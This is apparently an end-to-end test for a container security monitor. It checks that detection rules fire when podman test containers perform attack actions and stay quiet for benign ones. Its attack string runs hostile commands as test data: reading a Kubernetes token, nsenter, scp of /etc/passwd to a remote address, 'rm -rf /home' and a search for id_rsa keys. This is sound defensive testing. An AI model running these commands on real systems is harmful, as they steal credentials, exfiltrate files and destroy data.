// The default ruleset's container rules, for real: podman + runc (cgroupfs
// manager, no network) running the busybox image of containers_test.cpp,
// `podman system service` answering Peregrine's questions about names,
// images and privilege. One daemon, three containers (plain, one allowed
// NET_ADMIN so it can give its loopback an outside-looking address, one
// privileged); every benign action first, then every attack.
#include <doctest/doctest.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "default_rules.h"

using namespace pg::e2e;
using namespace pg::e2e::defaults;

namespace {

// `sh -c SCRIPT` in a container, output discarded.
std::string in(const std::string& container, const std::string& script) {
  return kPodman + " exec " + container + " sh -c '" + script + "' >/dev/null 2>&1";
}

}  // namespace

TEST_CASE(
    "default rules in containers: each attack fires its rule, each benign neighbour is quiet") {
  podman::Api podman;
  const std::string tag = std::to_string(getpid());
  const std::string plain = "pg-e2e-rules-" + tag, net = "pg-e2e-rules-net-" + tag,
                    priv = "pg-e2e-rules-priv-" + tag;
  podman.start(plain, "");
  podman.start(net, "--cap-add NET_ADMIN");
  podman.start(priv, "--privileged");
  // Set-up: a service account token as Kubernetes mounts it, and tools the
  // image does not have, linked to busybox under their names (the kernel
  // names a process after the file it executed).
  REQUIRE(sh(in(plain,
                "mkdir -p /var/run/secrets/kubernetes.io/serviceaccount /tmp/junk && "
                "echo token > /var/run/secrets/kubernetes.io/serviceaccount/token && "
                "echo default > /var/run/secrets/kubernetes.io/serviceaccount/namespace && "
                "for t in kubectl ssh scp; do ln -s /bin/busybox /tmp/$t; done")) == 0);
  REQUIRE(sh(in(net, "ip addr add 203.0.113.9/32 dev lo")) == 0);

  auto daemon = start_daemon(daemon_args(
      {"-o", "container.docker_socket=", "-o", "container.podman_socket=" + podman.socket}));
  Daemon& d = *daemon;

  const std::string sa = "/var/run/secrets/kubernetes.io/serviceaccount";
  const std::vector<RuleCase> cases = {
      {"Kubernetes credentials read by unexpected program", "", "", sa + "/token"},
      {"Namespace entered from inside a container", "", "", "container=" + plain},
      {"Filesystem mounted from inside a container", "", "", "container=" + plain},
      {"Program executed from a container's writable layer", "", "", "exe=/tmp/bb"},
      {"Cluster or cloud CLI run in a container", "", "", "command=kubectl get pods"},
      {"SSH client run in a container", "", "", "command=ssh admin@10.0.0.1"},
      {"Remote copy tool run in a container", "", "", "command=scp /etc/passwd"},
      {"Network configuration discovered in a container", "", "", "command=ifconfig -a"},
      {"Recursive deletion of a system directory", "", "", "command=rm -rf /home"},
      {"Container connected to an unexpected port", "", "", "203.0.113.9:4445"},
      {"Shell run in a privileged container", "", "", "container=" + priv},
  };
  // The benign neighbours: the same containers doing nearby harmless things.
  // Applets are run by path: busybox's shell runs a bare applet name inside
  // itself or through /proc/self/exe (comm "exe"); an image's real programs
  // run as themselves.
  auto talk = [&](const std::string& port) {
    return in(net, "(/bin/timeout 2 /bin/busybox nc -l -p " + port +
                       " </dev/null >/dev/null &); /bin/sleep 0.3; /bin/timeout 1 /bin/busybox nc "
                       "203.0.113.9 " +
                       port + " </dev/null");
  };
  const std::string benign = in(plain, "/bin/cat " + sa +
                                           "/namespace; /bin/ls /proc/1/ns; /bin/cat /proc/mounts; "
                                           "/bin/true; /bin/ls /tmp; /bin/rm -rf /tmp/junk") +
                             "; " + talk("443") + "; " + kPodman + " exec " + plain + " sh -c true";
  const std::string attack =
      in(plain, "/bin/cat " + sa +
                    "/token; /bin/nsenter -t 1 -n true; /bin/mount -t tmpfs none /mnt; "
                    "/bin/cp /bin/busybox /tmp/bb && /tmp/bb true; /tmp/kubectl get pods; "
                    "/tmp/ssh admin@10.0.0.1; /tmp/scp /etc/passwd backup@10.0.0.1:/x; "
                    "/bin/ifconfig -a; /bin/rm -rf /home") +
      "; " + talk("4445") + "; " + kPodman + " exec " + priv + " sh -c true";
  const int fired = run_table(d, cases,
                              {in(plain, "/bin/find / -name id_rsa"),
                               "Credentials searched for with find or grep", "container=" + plain},
                              benign, attack);
  CHECK(d.stop() == 0);
  CHECK(fired == static_cast<int>(cases.size()));
}
